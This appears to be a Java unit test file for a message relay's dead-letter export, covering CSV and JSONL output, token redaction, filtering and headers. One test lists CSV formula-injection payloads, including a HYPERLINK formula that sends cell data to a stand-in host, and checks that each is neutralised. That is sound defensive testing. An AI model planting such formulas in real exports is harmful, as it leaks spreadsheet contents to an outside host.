package io.vitallyrelay.console;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.datatype.jsr310.JavaTimeModule;
import io.vitallyrelay.TemporarySpool;
import io.vitallyrelay.delivery.Secrets;
import io.vitallyrelay.message.Message;
import io.vitallyrelay.message.MessageType;
import io.vitallyrelay.spool.Content;
import io.vitallyrelay.spool.DeadLetterCode;
import io.vitallyrelay.spool.DeadLetterFilter;
import io.vitallyrelay.spool.DeadRecord;
import io.vitallyrelay.spool.RecordIntake;
import io.vitallyrelay.spool.Refusal;
import io.vitallyrelay.spool.ResumePoint;
import io.vitallyrelay.spool.Settled;
import jakarta.ws.rs.WebApplicationException;
import jakarta.ws.rs.core.Response;
import jakarta.ws.rs.core.StreamingOutput;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Path;
import java.sql.ResultSet;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.h2.tools.Csv;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@Timeout(60)
class DeadLetterExportTest {
    private static final String TOKEN = "c2VjcmV0LXRva2VuOg==";
    private static final Secrets SECRETS = new Secrets(TOKEN);
    private static final ObjectMapper JSON = new ObjectMapper().registerModule(new JavaTimeModule());
    private static final Instant FIRST_SENT = Instant.parse("2026-01-31T00:00:00Z");
    private static final int MORE_THAN_TWO_PAGES = 600;

    @TempDir
    Path folder;

    private TemporarySpool spool;

    @BeforeEach
    void open() {
        spool = new TemporarySpool(folder);
    }

    @AfterEach
    void close() {
        spool.close();
    }

    @Test
    void eachLetterIsALineWithTheFieldsOfThePage() throws Exception {
        // Given
        dead("name: is absent", Content.record("{\"name\":\"Straße 😀\",\"x\":1.50}".getBytes(UTF_8)));
        refused(",\n\r\t\"text\":\"a\\nb\"");
        dead("no JSON", Content.raw("{broken\r\n\"".getBytes(UTF_8), true));

        // When
        String text = text(export("jsonl"));

        // Then
        assertThat(text).endsWith("\n").contains("\"x\":1.50");
        List<JsonNode> expected = new ArrayList<>();
        for (var letter :
                spool.spool().deadLetters().page(DeadLetterFilter.ALL, 0, 10).letters()) {
            expected.add(JSON.readTree(JSON.writeValueAsString(DeadLetterView.of(letter, SECRETS))));
        }
        assertThat(jsonLines(text)).hasSize(3).isEqualTo(expected);
        assertThat(jsonLines(text).get(1).path("firstSent").textValue()).isEqualTo("2026-01-31T00:00:00Z");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jsonl", "csv"})
    void allPagesAreInItOnceAndInOrder(String format) throws Exception {
        // Given
        List<String> positions = new ArrayList<>();
        RecordIntake intake = intake();
        for (int i = 0; i < MORE_THAN_TWO_PAGES; i++) {
            positions.add("line " + i);
            intake.dead(
                    new DeadRecord("line " + i, DeadLetterCode.CONTRACT, "no", Content.record("{}".getBytes(UTF_8))));
            intake.recordDone(ResumePoint.NONE);
        }
        intake.flush();

        // When
        String text = text(export(format));

        // Then
        assertThat(
                        format.equals("csv")
                                ? rows(text).stream().map(row -> row.get("position"))
                                : jsonLines(text).stream()
                                        .map(line -> line.at("/origin/position").textValue()))
                .containsExactlyElementsOf(positions);
    }

    @Test
    void csvHasAColumnForEachField() throws Exception {
        // Given
        refused(",\"a\":\"b, c\"");

        // When
        String text = text(export("csv"));

        // Then
        String at = rows(text).get(0).get("at");
        assertThat(text)
                .isEqualTo("id,integration,unit,position,code,reason,type,entity,messageId,status,answer,attempts,"
                        + "firstSent,at,cut,message,record,raw\r\n"
                        + "1,users,users.csv,line 2,refused,refused,user,user:u1,m1,400,,1,2026-01-31T00:00:00Z," + at
                        + ",,\"{\"\"type\"\":\"\"user\"\",\"\"messageId\"\":\"\"m1\"\",\"\"userId\"\":\"\"u1\"\",\"\"accountId\"\":\"\"a\"\","
                        + "\"\"a\"\":\"\"b, c\"\"}\",,\r\n");
        assertThat(Instant.parse(at)).isAfter(Instant.EPOCH);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "plain",
                "comma, quote \" and \"\"",
                "two\nlines",
                "two\r\nlines",
                "line\n",
                "\"",
                ",",
                "Straße, 東京 😀",
                " =leading space",
                "a=b",
                "'quoted'",
            })
    void csvIsReadAsItWas(String raw) throws Exception {
        // Given
        dead("no", Content.raw(raw.getBytes(UTF_8), false));

        // When
        List<Map<String, String>> rows = rows(text(export("csv")));

        // Then
        assertThat(rows).singleElement().satisfies(row -> assertThat(row).containsEntry("raw", raw));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example?\"&A1,\"open\")",
                "=1+1",
                "+1",
                "-1",
                "@SUM(1)",
                "\t=1",
                "\r=1",
                "=1\n,\"=2"
            })
    void noCellOfCsvIsAFormula(String hostile) throws Exception {
        // Given
        dead(hostile, Content.raw(hostile.getBytes(UTF_8), false));

        // When
        List<Map<String, String>> rows = rows(text(export("csv")));

        // Then
        assertThat(rows)
                .singleElement()
                .satisfies(row ->
                        assertThat(row).containsEntry("raw", "'" + hostile).containsEntry("reason", "'" + hostile));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jsonl", "csv"})
    void showsNoToken(String format) throws Exception {
        // Given
        dead("no " + TOKEN, Content.record(("{\"a\":\"" + TOKEN + "\",\"b\":\"secret-token\"}").getBytes(UTF_8)));

        // When
        String text = text(export(format));

        // Then
        assertThat(text).contains("no ***").doesNotContain(TOKEN, "secret-token");
    }

    @ParameterizedTest
    @ValueSource(strings = {"got \"7\"", "must be", "no such reason"})
    void onlyThoseWithTheReasonAreInIt(String reason) throws Exception {
        // Given
        for (int i = 0; i < 10; i++) {
            dead("mrr: must be a number, got \"" + i + "\"", Content.record("{}".getBytes(UTF_8)));
        }

        // When
        Response response = export("jsonl", Map.of("integration", "users", "code", "contract", "reason", reason));

        // Then
        assertThat(jsonLines(text(response)))
                .hasSize(reason.equals("must be") ? 10 : reason.equals("got \"7\"") ? 1 : 0)
                .allSatisfy(line -> assertThat(line.path("reason").textValue()).contains(reason));
    }

    @Test
    void otherFiltersAreThoseOfThePage() throws Exception {
        // Given
        dead("no", Content.record("{}".getBytes(UTF_8)));
        refused("");

        // Then
        assertThat(countOf("integration", "others")).isZero();
        assertThat(countOf("unit", "users.csv")).isEqualTo(2);
        assertThat(countOf("code", "refused")).isOne();
        assertThat(countOf("status", "400")).isOne();
        assertThat(countOf("since", "2999-01-01T00:00:00Z")).isZero();
        assertThat(countOf("until", "2020-01-01T00:00:00Z")).isZero();
        assertThat(countOf("type", "user")).isOne();
        assertThat(countOf("entity", "user:u1")).isOne();
        assertThat(countOf("messageId", "m1")).isOne();
        assertThat(countOf("messageId", "m2")).isZero();
        assertThat(countOf("text", "ACCOUNTID")).isOne();
    }

    @Test
    void anEmptyExportIsAFileToo() throws Exception {
        assertThat(text(export("jsonl"))).isEmpty();
        assertThat(text(export("csv")))
                .startsWith("id,integration,")
                .endsWith(",raw\r\n")
                .hasLineCount(1);
    }

    @Test
    void comesAsAFileWithANameAndAType() {
        // When
        Response lines = export("jsonl");
        Response csv = export("csv");

        // Then
        assertThat(lines.getHeaderString("Content-Disposition"))
                .matches("attachment; filename=\"dead-letters-\\d{8}T\\d{6}Z\\.jsonl\"");
        assertThat(csv.getHeaderString("Content-Disposition")).endsWith("Z.csv\"");
        assertThat(lines.getMediaType()).hasToString("application/x-ndjson");
        assertThat(csv.getMediaType().toString().replace("\"", "")).isEqualTo("text/csv;charset=UTF-8");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"format=xml", "code=wrong", "since=yesterday", "until=tomorrow", "status=bad", "type=person"})
    void saysWhatMakesNoSense(String query) {
        // Given
        Map<String, String> asked = Map.of(query.split("=")[0], query.split("=")[1]);

        // Then
        assertThatThrownBy(() -> export(asked.getOrDefault("format", "csv"), asked))
                .isInstanceOfSatisfying(WebApplicationException.class, refused -> {
                    assertThat(refused.getResponse().getStatus()).isEqualTo(400);
                    assertThat(refused.getResponse().getEntity()).asString().contains(query + ": must be");
                });
    }

    private RecordIntake intake() {
        return new RecordIntake(spool.spool().intake("users", "users.csv"));
    }

    private void dead(String reason, Content content) throws Exception {
        RecordIntake intake = intake();
        intake.dead(new DeadRecord("line 1", DeadLetterCode.CONTRACT, reason, content));
        intake.recordDone(ResumePoint.NONE);
        intake.flush();
    }

    /** @param further what else is in the message */
    private void refused(String further) throws Exception {
        String json = "{\"type\":\"user\",\"messageId\":\"m1\",\"userId\":\"u1\",\"accountId\":\"a\"" + further + "}";
        RecordIntake intake = intake();
        intake.message(new Message(MessageType.USER, "m1", "user:u1", json.getBytes(UTF_8)), "line 2");
        intake.recordDone(ResumePoint.NONE);
        intake.flush();
        Refusal refusal = new Refusal(DeadLetterCode.REFUSED, "refused", 400, null, 1, FIRST_SENT);
        spool.lane().settle(List.of(Settled.dead(spool.take(1).get(0), refusal)));
    }

    private DeadLetterExport resource() {
        return new DeadLetterExport(spool.spool(), SECRETS);
    }

    private Response export(String format) {
        return export(format, Map.of());
    }

    private Response export(String format, Map<String, String> query) {
        return resource().export(format, LetterQuery.of(query::get));
    }

    private long countOf(String name, String value) throws Exception {
        return count(export("jsonl", Map.of(name, value)));
    }

    private static long count(Response response) throws IOException {
        return text(response).lines().count();
    }

    private static String text(Response response) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ((StreamingOutput) response.getEntity()).write(out);
        return out.toString(UTF_8);
    }

    private static List<JsonNode> jsonLines(String text) throws IOException {
        List<JsonNode> lines = new ArrayList<>();
        for (String line : text.split("\n", -1)) {
            if (!line.isEmpty()) {
                lines.add(JSON.readTree(line));
            }
        }
        return lines;
    }

    /** As another program reads it. */
    private static List<Map<String, String>> rows(String text) throws Exception {
        Csv csv = new Csv();
        csv.setCaseSensitiveColumnNames(true);
        csv.setPreserveWhitespace(true);
        List<Map<String, String>> rows = new ArrayList<>();
        try (ResultSet read = csv.read(new StringReader(text), null)) {
            while (read.next()) {
                Map<String, String> row = new TreeMap<>();
                for (int i = 1; i <= read.getMetaData().getColumnCount(); i++) {
                    row.put(read.getMetaData().getColumnName(i), read.getString(i));
                }
                rows.add(row);
            }
        }
        return rows;
    }
}
